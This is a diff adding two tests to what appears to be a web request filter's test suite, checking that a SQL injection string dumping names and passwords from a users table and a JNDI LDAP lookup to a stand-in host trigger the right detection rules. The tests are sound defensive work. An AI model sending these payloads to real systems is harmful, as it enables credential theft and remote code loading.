@@ -142,3 +142,20 @@ test('a user agent that passed where its category is disabled is refused where t
   const [refused] = await engine.judge(requests);
   expect(refused?.rule).toBe('scanner-gobuster');
 });
+
+test('an attack after 200 suspicious values is refused by the model', async () => {
+  const suspicious = Array.from({ length: 250 }, (_, i) => `a${i}=${encodeURIComponent("it's a b")}`).join('&');
+  const attack = encodeURIComponent("1' union all select name,password,3,4 from users where 1=1 -- ");
+  const [alone, late] = await engine.judge([
+    { target: `/?${suspicious}`, headers: [], body: '' },
+    { target: `/?${suspicious}&q=${attack}`, headers: [], body: '' },
+  ]);
+  expect(alone?.rule).toBeUndefined();
+  expect(late?.rule).toBe('sqli-model');
+});
+
+test('a rule that refuses without the model is reported before one with a higher score', async () => {
+  const attack = encodeURIComponent("1' union all select name,password,3,4 from users where 1=1 -- ");
+  const [found] = await engine.judge([{ target: `/\${jndi:ldap://a.example/x}?q=${attack}`, headers: [], body: '' }]);
+  expect(found?.rule).toBe('template-jndi');
+});
